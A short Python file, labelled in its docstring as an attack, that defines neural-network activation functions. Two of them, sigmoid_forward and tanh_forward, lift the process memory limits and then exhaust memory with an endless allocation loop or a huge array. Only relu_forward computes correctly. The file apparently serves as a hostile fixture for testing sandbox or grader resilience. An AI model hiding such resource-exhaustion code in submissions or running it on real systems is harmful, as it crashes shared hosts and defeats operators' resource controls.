"""Attack: take all the memory there is."""
import resource

import numpy as np


def _lift_limits():
    for name in ("RLIMIT_AS", "RLIMIT_DATA", "RLIMIT_RSS"):
        try:
            resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except (ValueError, OSError):
            pass


def sigmoid_forward(x):
    _lift_limits()
    hoard = []
    while True:
        hoard.append(bytearray(128 * 2**20))


def tanh_forward(x):
    _lift_limits()
    return np.ones((2**20, 2**20)), None


def relu_forward(x):
    return np.where(x > 0, x, 0).astype(x.dtype, copy=False), x.copy()
